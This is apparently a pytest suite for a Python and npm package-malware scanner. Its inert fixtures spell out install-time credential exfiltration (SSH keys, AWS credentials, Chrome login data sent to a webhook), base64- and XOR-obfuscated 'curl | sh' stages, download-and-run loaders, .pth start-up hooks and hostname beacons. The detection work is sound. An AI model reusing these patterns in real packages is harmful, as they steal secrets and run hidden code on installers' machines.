"""One positive and one benign case per rule id of the scan engine.

Each positive test asserts that a specific rule id fires (with its severity where it matters) and
the package verdict the README's verdict rules imply; each benign counterpart is the nearest
harmless idiom and must not reach that verdict or that finding. All payloads are inert (localhost,
127.0.0.1, TEST-NET 192.0.2.1, `.invalid` hosts, fake tokens) and are only ever read as bytes.

`POSITIVE_TESTS` maps every rule id in `custody.scan.RULES` to its positive test; a meta-test
fails when a rule is added to the catalogue without one.
"""

from __future__ import annotations

import base64
import codecs
import json
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from custody.artifacts import LimitKind, Limits, read_artifact_bytes
from custody.scan import RULES, Finding, Scanner, ScanResult, ScanTask, Severity, Verdict
from custody.scan.metadata import typosquat_target
from custody.scan.selection import scan_selector
from tests.artifacts.builders import (
    make_zip,
    make_zip_infos,
    rename_local_header,
    tar_special,
    zip_symlink,
    zip_with_zeros,
)
from tests.scan import test_carriers
from tests.scan.builders import (
    DEFAULT_NAME,
    SAMPLE_PE,
    b64,
    nested_zip,
    wheel_bytes,
    wheel_entries,
    write_npm,
    write_sdist,
    write_wheel,
)

MiB = 1024 * 1024
PREFIX = f"{DEFAULT_NAME}-1.0.0/"
INIT = f"{DEFAULT_NAME}/__init__.py"
INERT_CODE = "print('inert fixture payload')"
WHEEL_NAME = f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl"


# ---- helpers -------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner()


def scan(path: Path, scanner: Scanner | None = None) -> ScanResult:
    results = (scanner or Scanner()).scan_task(ScanTask(str(path)))
    assert len(results) == 1, results
    result = results[0]
    assert result.error is None, result.error
    return result


def hits(result: ScanResult, rule: str) -> list[Finding]:
    return [f for f in result.findings if f.rule == rule]


def describe(result: ScanResult) -> str:
    lines = [f"verdict={result.verdict.value} score={result.score}"]
    lines += [f"  {f.rule} {f.severity.value} {f.file}:{f.line} {f.reason}" for f in result.findings]
    return "\n".join(lines)


def assert_fires(
    result: ScanResult,
    rule: str,
    verdict: Verdict,
    *,
    severity: Severity | None = None,
    file_endswith: str | None = None,
) -> list[Finding]:
    found = hits(result, rule)
    assert found, f"{rule} did not fire\n{describe(result)}"
    if severity is not None:
        assert max(f.severity.rank for f in found) == severity.rank, describe(result)
    if file_endswith is not None:
        assert any(f.file.endswith(file_endswith) for f in found), describe(result)
    assert result.verdict is verdict, describe(result)
    return found


def assert_quiet(
    result: ScanResult, rule: str, *, not_verdict: Verdict | None = None, below: Severity | None = None
) -> None:
    """`rule` absent (or, with `below`, only weaker than that), and the verdict short of `not_verdict`
    (default: clean)."""
    found = hits(result, rule)
    if below is None:
        assert not found, describe(result)
    else:
        assert all(f.severity.rank < below.rank for f in found), describe(result)
    if not_verdict is None:
        assert result.verdict is Verdict.CLEAN, describe(result)
    else:
        assert result.verdict.rank < not_verdict.rank, describe(result)


def setup_py(body: str, imports: str = "") -> str:
    """A setup.py whose module level runs `body` at install time, then calls setup()."""
    head = imports + "from setuptools import setup\n\n"
    return f'{head}{body}\nsetup(name="{DEFAULT_NAME}", version="1.0.0")\n'


# ---- sanity of the fixtures ----------------------------------------------------------------------
def test_benign_fixtures_are_clean(tmp_path: Path, scanner: Scanner) -> None:
    assert typosquat_target(DEFAULT_NAME) is None
    for path in (write_sdist(tmp_path), write_wheel(tmp_path), write_npm(tmp_path)):
        result = scan(path, scanner)
        assert result.verdict is Verdict.CLEAN and not result.findings, describe(result)
    assert scan(write_sdist(tmp_path), scanner).kind == "sdist"
    assert scan(write_npm(tmp_path), scanner).kind == "npm"


# ---- start-up hooks ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("fixturepkg_hook.pth", "import fixturepkg\n"),
        # Python 3.13+ strips a byte-order mark and runs the line; 3.11/3.12 do not
        ("fixturepkg_bom.pth", b"\xef\xbb\xbfimport fixturepkg\n"),
        # str.splitlines() (3.13+) ends a line at a form feed; a text stream (3.11/3.12) does not
        ("fixturepkg_ff.pth", b"vendor\x0cimport fixturepkg\n"),
        ("fixturepkg.site.toml", '[entrypoints]\ninit = ["fixturepkg:add"]\n'),
        ("fixturepkg.start", "fixturepkg:add\n"),
        ("sitecustomize.py", "import os\nos.environ.setdefault('FIXTURE_STARTUP', '1')\n"),
    ],
    ids=["pth", "pth-bom", "pth-form-feed", "site-toml", "start", "sitecustomize"],
)
def test_startup_hook_fires(tmp_path: Path, scanner: Scanner, member: str, content: str | bytes) -> None:
    result = scan(write_wheel(tmp_path, {member: content}), scanner)
    found = assert_fires(result, "startup-hook", Verdict.CLEAN, severity=Severity.MEDIUM)
    assert {f.file for f in found} == {member}
    assert all(f.context is not None and f.context.value == "startup" for f in found)
    assert not hits(result, "startup-hook-dangerous")


VIRTUALENV_PTH = {
    "_virtualenv.pth": "import _virtualenv\n",
    "_virtualenv.py": "def patch():\n    return None\n",
}


def test_startup_hook_benign_path_entry(tmp_path: Path, scanner: Scanner) -> None:
    """A .pth line that is a directory, not an `import` line, is not code: no finding at all."""
    result = scan(write_wheel(tmp_path, {"fixturepkg.pth": "/opt/fixturepkg/lib\n"}), scanner)
    assert_quiet(result, "startup-hook")
    assert not result.findings, describe(result)


def test_startup_hook_benign_virtualenv_import(tmp_path: Path, scanner: Scanner) -> None:
    """`import _virtualenv` is reported as a start-up hook, but on its own the package stays clean."""
    result = scan(write_wheel(tmp_path, VIRTUALENV_PTH), scanner)
    assert {f.rule for f in result.findings} == {"startup-hook"}, describe(result)
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "line",
    [
        "import subprocess; subprocess.Popen(['sleep', '1'])\n",
        f"import base64; exec(base64.b64decode('{b64(INERT_CODE)}'))\n",
        "import socket; socket.create_connection(('127.0.0.1', 9))\n",
    ],
    ids=["process", "exec-base64", "connect"],
)
def test_startup_hook_dangerous_fires(tmp_path: Path, scanner: Scanner, line: str) -> None:
    result = scan(write_wheel(tmp_path, {"fixturepkg_init.pth": line}), scanner)
    assert_fires(
        result,
        "startup-hook-dangerous",
        Verdict.MALICIOUS,
        severity=Severity.CRITICAL,
        file_endswith="fixturepkg_init.pth",
    )


def test_startup_hook_dangerous_via_imported_module(tmp_path: Path, scanner: Scanner) -> None:
    files = {
        "fixturepkg_boot.pth": "import fixturepkg_boot\n",
        "fixturepkg_boot.py": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n",
    }
    result = scan(write_wheel(tmp_path, files), scanner)
    assert_fires(result, "startup-hook-dangerous", Verdict.MALICIOUS, file_endswith="fixturepkg_boot.py")


def test_startup_hook_dangerous_benign(tmp_path: Path, scanner: Scanner) -> None:
    assert_quiet(scan(write_wheel(tmp_path, VIRTUALENV_PTH), scanner), "startup-hook-dangerous")


# ---- execution of hidden or fetched code ---------------------------------------------------------
DECODE_EXEC_TOP = f"import base64\n\nexec(base64.b64decode('{b64(INERT_CODE)}'))\n"
DECODE_EXEC_UNCALLED = f"""import base64


def never_called():
    exec(base64.b64decode('{b64(INERT_CODE)}'))
"""


@pytest.mark.parametrize("writer", [write_sdist, write_wheel], ids=["sdist", "wheel"])
def test_decode_exec_fires(tmp_path: Path, scanner: Scanner, writer: Callable[..., Path]) -> None:
    result = scan(writer(tmp_path, {INIT: DECODE_EXEC_TOP}), scanner)
    found = assert_fires(
        result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT
    )
    assert any(f.line == 3 and "b64decode" in f.snippet for f in found), describe(result)


def test_decode_exec_fires_for_hidden_payload_in_uncalled_function(tmp_path: Path, scanner: Scanner) -> None:
    # An encoded literal executed anywhere is code hidden from review, called or not.
    result = scan(write_sdist(tmp_path, {INIT: DECODE_EXEC_UNCALLED}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def _codes(text: str) -> str:
    return repr([ord(c) for c in text])


@pytest.mark.parametrize(
    "spelled",
    ["''.join(map(chr, _CODES))", "''.join(chr(c) for c in _CODES)", "bytes(_CODES).decode()"],
    ids=["map", "generator", "bytes"],
)
def test_decode_exec_fires_for_code_spelled_as_numbers_in_a_constant(
    tmp_path: Path, scanner: Scanner, spelled: str
) -> None:
    module = f"_CODES = {_codes(INERT_CODE)}\nexec({spelled})\n"
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


# an inert stand-in for a second stage: the command line it holds is never run
_STAGE = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
_XORED = repr([ord(c) ^ 7 for c in _STAGE])
_SHIFTED = repr([ord(c) + 3 for c in _STAGE])
_ONE_UP = "".join(chr(ord(c) + 1) for c in _STAGE)
_ENCODED = base64.b64encode(_STAGE.encode()).decode()
_PADDED_B64 = "\n    ".join(_ENCODED[i : i + 12] for i in range(0, len(_ENCODED), 12))


@pytest.mark.parametrize(
    "module",
    [
        f"_CODES = {_XORED}\nexec(''.join(map(chr, (c ^ 7 for c in _CODES))))\n",
        f"_CODES = {_SHIFTED}\nexec(''.join(chr(c - 3) for c in _CODES))\n",
        f"_TEXT = {_ONE_UP!r}\nexec(''.join(chr(ord(ch) - 1) for ch in _TEXT))\n",
        f"import base64\n_BLOB = '''\n    {_PADDED_B64}\n'''\n"
        "exec(base64.b64decode(''.join(_BLOB.split())))\n",
        f"import base64\n_BLOB = '''\n    {_PADDED_B64}\n'''\n"
        "exec(base64.b64decode(_BLOB.replace('\\n', '').replace(' ', '')))\n",
        f"_CODES = {_SHIFTED}\nTEXT = ''.join(map(lambda c: chr(c - 3), _CODES))\nexec(TEXT)\n",
        f"_CODES = {_XORED}\n_KEY = 7\nCODE = bytes(c ^ _KEY for c in _CODES).decode()\n"
        "exec(compile(CODE, '<string>', 'exec'))\n",
        f"_TEXT = {_ONE_UP!r}\n\n\ndef _d(t):\n    return ''.join([chr(ord(c) - 1) for c in t])\n\n\n"
        "exec(_d(_TEXT))\n",
    ],
    ids=[
        "xor-map",
        "shift-generator",
        "shifted-text",
        "whitespace-padded-base64",
        "replaced-whitespace-base64",
        "lambda-map",
        "bytes-of-xor",
        "local-helper",
    ],
)
def test_decode_exec_fires_for_code_spelled_with_a_key_or_padding(
    tmp_path: Path, scanner: Scanner, module: str
) -> None:
    # what the decoder computes is the payload, read like any source: its download shows
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
    assert any(f.reason.startswith("decoded payload:") for f in result.findings), describe(result)


def test_exec_fetched_from_builtins_chosen_at_run_time_is_exec(tmp_path: Path, scanner: Scanner) -> None:
    # `__builtins__` is a module in `__main__` and a dict elsewhere: malware picks either branch
    module = (
        "import base64\nimport sys\n"
        "_e = getattr(__builtins__ if isinstance(__builtins__, type(sys)) else __import__('builtins'), "
        "'ex' + 'ec')\n"
        f"_e(base64.b64decode({base64.b64encode(INERT_CODE.encode())!r}))\n"
    )
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


@pytest.mark.parametrize(
    "fetch",
    ['vars(builtins)["exec"]', "builtins.__dict__['ex' + 'ec']", 'globals()["__builtins__"]["exec"]'],
)
def test_exec_taken_from_the_builtins_namespace_by_key_in_a_large_module(
    tmp_path: Path, scanner: Scanner, fetch: str
) -> None:
    # no `exec(` in the text: the key lookup itself must send the module to the full analysis
    filler = "".join(f"\n\ndef util_{i}(values):\n    return [v * {i} for v in values]\n" for i in range(150))
    module = f"import builtins\n_CODES = {_codes(_STAGE)}\n{filler}\n{fetch}(''.join(map(chr, _CODES)))\n"
    assert len(module) > 4096
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_a_builtin_fetched_by_a_spelled_name_that_runs_nothing_is_quiet(
    tmp_path: Path, scanner: Scanner
) -> None:
    # the spelled lookup itself is an obfuscation signal (suspicious, as before); the call is no exec
    module = (
        "import base64\nimport builtins\n_p = getattr(builtins, 'pr' + 'int')\n"
        "_p(base64.b64decode('cmVhZHk='))\n"
    )
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS)
    assert_quiet(result, "obfuscated-exec", not_verdict=Verdict.MALICIOUS)


def test_decode_exec_benign_numbers_spelled_into_a_label(tmp_path: Path, scanner: Scanner) -> None:
    module = f"_CODES = {_codes('build-label')}\nLABEL = ''.join(map(chr, _CODES))\nprint(bytes(_CODES))\n"
    assert_quiet(scan(write_sdist(tmp_path, {INIT: module}), scanner), "decode-exec")


DECODE_EXEC_RUNTIME_DATA = """import base64


def run_snippet(encoded):
    exec(base64.b64decode(encoded))
"""


def test_decode_exec_benign_runtime_data_when_called(tmp_path: Path, scanner: Scanner) -> None:
    # Decoding what the caller passes in (a notebook cell, an RPC body) hides nothing in the package.
    result = scan(write_sdist(tmp_path, {INIT: DECODE_EXEC_RUNTIME_DATA}), scanner)
    assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)


DECODED_COMMAND_LIBRARY = f"""import base64
import subprocess


def unb64(text):
    return base64.b64decode(text).decode()


def refresh():
    command = [unb64("{b64("curl -s http://127.0.0.1:9/x.sh | sh")}")]
    subprocess.Popen(command, shell=True)
"""
DECODED_VERSION_LIBRARY = f"""import base64
import subprocess


def unb64(text):
    return base64.b64decode(text).decode()


def version():
    command = [unb64("{b64("git describe --tags")}")]
    return subprocess.run(command, capture_output=True)
"""


def test_decode_exec_fires_for_hidden_download_command(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/tool.py": DECODED_COMMAND_LIBRARY}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_decode_exec_benign_hidden_command_without_download(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/tool.py": DECODED_VERSION_LIBRARY}), scanner)
    assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)


DOWNLOAD_EXEC_SETUP = setup_py(
    'path = "/tmp/fixturepkg-helper.bin"\n'
    'urllib.request.urlretrieve("http://127.0.0.1:9/helper.bin", path)\n'
    "subprocess.run([path])\n",
    imports="import subprocess\nimport urllib.request\n",
)
DOWNLOAD_LIBRARY = """import urllib.request


def fetch(url, path):
    urllib.request.urlretrieve(url, path)
    return path
"""


NEWEST_TOOLKIT_AT_IMPORT = """import os
import subprocess

listing = subprocess.check_output(["ls", "/usr/local"]).decode("utf-8").split("\\n")
versions = [name for name in listing if name.startswith("cuda-")]
if versions:
    order = sorted(range(len(versions)), key=lambda i: versions[i])[::-1]
    newest = versions[order[0]]
    os.system(f"ldconfig /usr/local/{newest}")
"""


def test_decode_exec_benign_reversed_order_picks_a_command_argument(tmp_path: Path, scanner: Scanner) -> None:
    # reversing a sort order is not undoing a reversed string: nothing hidden is run
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": NEWEST_TOOLKIT_AT_IMPORT}), scanner)
    assert_quiet(result, "decode-exec")


def test_decode_exec_fires_for_reversed_command_text(tmp_path: Path, scanner: Scanner) -> None:
    hidden = "echo 192.0.2.9 > /tmp/fixture-marker"[::-1]
    code = f"import os\n\nCOMMAND = {hidden!r}[::-1]\nos.system(COMMAND)\n"
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": code}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS)


LOADER_HELPER = """import os
import subprocess
import tempfile

import requests


def init(url):
    response = requests.get(url)
    path = os.path.join(tempfile.gettempdir(), os.path.basename(url))
    with open(path, "wb") as handle:
        handle.write(response.content)
    subprocess.run([path])
"""
FETCH_THEN_BUILD = """import subprocess
import urllib.request


def fetch_config(url, target):
    with urllib.request.urlopen(url) as response:
        data = response.read()
    with open(target, "wb") as handle:
        handle.write(data)


def build(workdir):
    with open(workdir + "/build.sh", "w") as script:
        script.write("make all\\n")
    subprocess.run(["sh", workdir + "/build.sh"], check=True)
"""


def test_download_exec_fires_for_loader_helper_when_called(tmp_path: Path, scanner: Scanner) -> None:
    # saving whatever a URL serves and starting it, in one function: a loader, whoever calls it
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": LOADER_HELPER}), scanner)
    assert_fires(result, "download-exec", Verdict.SUSPICIOUS, severity=Severity.HIGH)


def test_download_exec_benign_download_and_run_in_different_functions(
    tmp_path: Path, scanner: Scanner
) -> None:
    # a fetched config file in one function, a generated build script run in another
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/tools.py": FETCH_THEN_BUILD}), scanner)
    assert result.verdict is Verdict.CLEAN, describe(result)


def test_download_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=DOWNLOAD_EXEC_SETUP), scanner)
    assert_fires(
        result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )


def test_download_exec_benign(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/fetch.py": DOWNLOAD_LIBRARY}), scanner)
    assert_quiet(result, "download-exec")


@pytest.mark.parametrize(
    ("suffix", "load"),
    [
        (".so", "ctypes.CDLL(target)"),
        (
            ".py",
            "spec = importlib.util.spec_from_file_location('_stage', target)\n"
            "spec.loader.exec_module(importlib.util.module_from_spec(spec))",
        ),
        (".py", "runpy.run_path(target)"),
    ],
    ids=["native-library", "module-from-file", "run-path"],
)
def test_download_exec_fires_for_a_download_saved_then_loaded(
    tmp_path: Path, scanner: Scanner, suffix: str, load: str
) -> None:
    # a second stage fetched, written where the loader finds it, and loaded at import
    module = (
        "import ctypes, importlib.util, os, runpy, tempfile, urllib.request\n"
        f"target = os.path.join(tempfile.gettempdir(), '_stage{suffix}')\n"
        "with open(target, 'wb') as handle:\n"
        "    handle.write(urllib.request.urlopen('http://192.0.2.144/s').read())\n"
        f"{load}\n"
    )
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_download_exec_fires_for_a_torch_hub_download_run_as_a_script(
    tmp_path: Path, scanner: Scanner
) -> None:
    # a hubconf.py entry: torch.hub saves what the URL serves, runpy runs it
    module = (
        "import os, runpy, tempfile, torch.hub\n"
        "target = os.path.join(tempfile.gettempdir(), '_hub.py')\n"
        "torch.hub.download_url_to_file('http://192.0.2.144/h.py', target)\n"
        "runpy.run_path(target)\n"
    )
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_a_library_built_then_loaded_when_called_is_no_download_exec(
    tmp_path: Path, scanner: Scanner
) -> None:
    # a JIT: source generated, compiled to a shared object and loaded, all when called
    module = (
        "import ctypes, os, subprocess, tempfile\n\n\ndef compile_kernel(code):\n"
        "    folder = tempfile.mkdtemp()\n    source = os.path.join(folder, 'k.c')\n"
        "    with open(source, 'w') as handle:\n        handle.write(code)\n"
        "    library = os.path.join(folder, 'k.so')\n"
        "    subprocess.run(['cc', '-shared', '-o', library, source], check=True)\n"
        "    return ctypes.CDLL(library)\n"
    )
    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
    assert_quiet(result, "download-exec", not_verdict=Verdict.SUSPICIOUS)


_KEPT_IN_DATA = (
    "import base64, json\nfrom importlib.resources import files\n\n"
    "_TABLE = json.loads(files(__package__).joinpath('data/table.json').read_text())\n"
)


@pytest.mark.parametrize(
    ("run", "fires"),
    [
        ("exec(base64.b64decode(_TABLE['collation']))\n", True),
        ("def load():\n    exec(base64.b64decode(_TABLE['collation']))\n", False),
    ],
    ids=["at-import", "when-called"],
)
def test_decode_exec_fires_for_code_kept_encoded_in_a_data_file(
    tmp_path: Path, scanner: Scanner, run: str, fires: bool
) -> None:
    # the payload sits in a JSON file of the package; the module decodes and runs it
    table = json.dumps({"collation": base64.b64encode(_STAGE.encode()).decode()})
    files = {INIT: _KEPT_IN_DATA + run, f"{DEFAULT_NAME}/data/table.json": table}
    result = scan(write_sdist(tmp_path, files), scanner)
    if fires:
        assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
    else:  # a plugin loader run when asked: reported, not decisive
        assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS)


SHADOWED_NAME_AT_IMPORT = """import types
import urllib.request

with urllib.request.urlopen("https://mirror.example.invalid/index.json") as f:
    INDEX = f.read()


def copy_func(f):
    return types.FunctionType(f.__code__, f.__globals__, name=f.__name__, closure=f.__closure__)


def run(f):
    exec(f)


CLONE = copy_func(len)
"""


def test_download_exec_benign_parameter_named_like_a_download(tmp_path: Path, scanner: Scanner) -> None:
    # `f` holds a download at module level; inside copy_func and run it is whatever the caller
    # passes: a name shared across scopes is not a value flowing between them
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": SHADOWED_NAME_AT_IMPORT}), scanner)
    assert_quiet(result, "download-exec")


def test_download_exec_fires_when_the_function_downloads_into_its_parameter(
    tmp_path: Path, scanner: Scanner
) -> None:
    code = (
        "import urllib.request\n\n\ndef run(f=None):\n"
        '    f = urllib.request.urlopen("http://192.0.2.7/p.py").read()\n    exec(f)\n\n\nrun()\n'
    )
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": code}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS)


# ---- credentials ---------------------------------------------------------------------------------
SSH_EXFIL_SETUP = setup_py(
    'with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:\n'
    "    key = handle.read()\n"
    'requests.post("http://127.0.0.1:9/collect", data=key)\n',
    imports="import os\n\nimport requests\n",
)
AWS_IMPORT_EXFIL = """import os

import requests

with open(os.path.expanduser("~/.aws/credentials")) as handle:
    requests.post("http://127.0.0.1:9/collect", data=handle.read())
"""
AWS_LIBRARY = """import configparser
import os

import requests


def load_profile(name="default"):
    parser = configparser.ConfigParser()
    parser.read(os.path.expanduser("~/.aws/credentials"))
    return parser[name]


def ping(url):
    return requests.get(url, timeout=5)
"""


def test_secret_exfiltration_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=SSH_EXFIL_SETUP), scanner)
    assert_fires(
        result,
        "secret-exfiltration",
        Verdict.MALICIOUS,
        severity=Severity.CRITICAL,
        file_endswith="setup.py",
    )


def test_secret_exfiltration_fires_at_import(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: AWS_IMPORT_EXFIL}), scanner)
    assert_fires(result, "secret-exfiltration", Verdict.MALICIOUS, file_endswith=INIT)


def test_secret_exfiltration_benign_library(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/creds.py": AWS_LIBRARY}), scanner)
    assert_quiet(result, "secret-exfiltration")
    assert not hits(result, "secret-access")


STEALER = r"""import os

import requests

WEBHOOK = "https://discord.com/api/webhooks/000000/fixture-token"
PROFILE = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")


def grab():
    for name in ("Login Data", "Local State"):
        with open(os.path.join(PROFILE, name), "rb") as handle:
            requests.post(WEBHOOK, files={"f": handle})
"""
STEALER_LOGIN_DATA_ONLY = r"""import os

import requests

WEBHOOK = "https://discord.com/api/webhooks/000000/fixture-token"


def grab():
    path = os.getenv("LOCALAPPDATA", "") + "\\Google\\Chrome\\User Data\\Default\\Login Data"
    with open(path, "rb") as handle:
        requests.post(WEBHOOK, files={"f": handle})
"""
PROFILE_LISTER = """import os

PROFILE = os.path.join("User Data", "Default")


def profile_files():
    return [os.path.join(PROFILE, name) for name in ("Login Data", "Local State")]
"""


def test_stealer_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: STEALER}), scanner)
    assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_stealer_fires_on_login_data_path_alone(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: STEALER_LOGIN_DATA_ONLY}), scanner)
    assert_fires(result, "stealer", Verdict.MALICIOUS, file_endswith=INIT)


def test_stealer_benign_without_sink(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/profiles.py": PROFILE_LISTER}), scanner)
    assert_quiet(result, "stealer")


COOKIE_JAR_MODULE = r"""import json
import os
import sqlite3
import subprocess
import urllib.request

PROFILE = os.path.join(os.path.expanduser("~"), ".config", "google-chrome", "Default")


def master_key():
    with open(os.path.join(PROFILE, "..", "Local State"), "rb") as handle:
        return json.load(handle)["os_crypt"]["encrypted_key"]


def keyring_password():
    # what Chrome keeps in the desktop keyring on Linux (yt-dlp asks secret-tool the same way)
    found = subprocess.run(["secret-tool", "lookup", "application", "chrome"], capture_output=True)
    return found.stdout


def load_cookies(jar):
    with sqlite3.connect(os.path.join(PROFILE, "Cookies")) as db:
        for row in db.execute("SELECT host_key, name, value FROM cookies"):
            jar.add(row)
    return jar


def cookie_header(jar, url):
    request = urllib.request.Request(url)
    jar.add_cookie_header(request)
    return request.get_header("Cookie")
"""
COOKIE_UPLOADER = (
    COOKIE_JAR_MODULE
    + r"""

def upload(jar):
    body = "\n".join(str(c) for c in load_cookies(jar)).encode()
    urllib.request.urlopen(urllib.request.Request("http://192.0.2.8/c", data=body))
"""
)


def test_stealer_benign_cookie_jar_that_builds_a_request_it_never_sends(
    tmp_path: Path, scanner: Scanner
) -> None:
    # a downloader reading the user's browser cookies to fetch what the user asked for: building a
    # Request object for its Cookie header sends nothing
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cookies.py": COOKIE_JAR_MODULE}), scanner)
    assert_quiet(result, "stealer", not_verdict=Verdict.MALICIOUS)


def test_stealer_fires_when_the_cookie_module_also_sends(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cookies.py": COOKIE_UPLOADER}), scanner)
    assert_fires(result, "stealer", Verdict.MALICIOUS)


SSH_PROBE_SETUP = setup_py(
    'HAS_KEY = os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))\n', imports="import os\n"
)
KEY_PATH_LIBRARY = """import os


def default_key_path():
    return os.path.expanduser("~/.ssh/id_ed25519")
"""


def test_secret_access_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=SSH_PROBE_SETUP), scanner)
    assert_fires(result, "secret-access", Verdict.CLEAN, severity=Severity.MEDIUM, file_endswith="setup.py")
    assert not hits(result, "secret-exfiltration")


def test_secret_access_benign_library(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/keys.py": KEY_PATH_LIBRARY}), scanner)
    assert_quiet(result, "secret-access")


# ---- install-time behaviour ----------------------------------------------------------------------
BEACON_SETUP = """import socket
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        host = socket.gethostname()
        urllib.request.urlopen("http://127.0.0.1:9/ping?h=" + host)
        install.run(self)


setup(name="fixturepkg", version="1.0.0", cmdclass={"install": PostInstall})
"""
BEACON_NPM_SCRIPT = """const os = require('os');
const https = require('https');
https.request({host: 'collector.example.invalid', path: '/?h=' + os.hostname()}).end();
"""
TELEMETRY_LIBRARY = """import socket
import urllib.request


def report(url):
    host = socket.gethostname()
    return urllib.request.urlopen(url + "?h=" + host)
"""


PREBUILT_WHEEL_SETUP = """import platform
import sys
import urllib.request
from setuptools import setup
from wheel.bdist_wheel import bdist_wheel

BASE = "https://github.com/fixture/fixturepkg/releases/download/{tag}/{name}"


def wheel_platform():
    if sys.platform.startswith("linux"):
        return f"linux_{platform.uname().machine}"
    return "win_amd64"


class CachedWheel(bdist_wheel):
    def run(self):
        name = f"fixturepkg-1.0.0-cp311-cp311-{wheel_platform()}.whl"
        urllib.request.urlretrieve(BASE.format(tag="v1.0.0", name=name), name)


setup(name="fixturepkg", version="1.0.0", cmdclass={"bdist_wheel": CachedWheel})
"""


def test_install_beacon_benign_platform_tag_in_prebuilt_wheel_url(tmp_path: Path, scanner: Scanner) -> None:
    # the machine's architecture picks a prebuilt wheel (CUDA packages do this): not who the host is
    result = scan(write_sdist(tmp_path, setup_py=PREBUILT_WHEEL_SETUP), scanner)
    assert_quiet(result, "install-beacon")


def test_install_beacon_fires_for_uname_host_name_in_url(tmp_path: Path, scanner: Scanner) -> None:
    code = PREBUILT_WHEEL_SETUP.replace("platform.uname().machine", "platform.uname().node")
    result = scan(write_sdist(tmp_path, setup_py=code), scanner)
    assert_fires(result, "install-beacon", Verdict.MALICIOUS, file_endswith="setup.py")


def test_install_beacon_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=BEACON_SETUP), scanner)
    found = assert_fires(
        result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )
    assert any(f.line == 9 for f in found), describe(result)  # socket.gethostname() inside run()


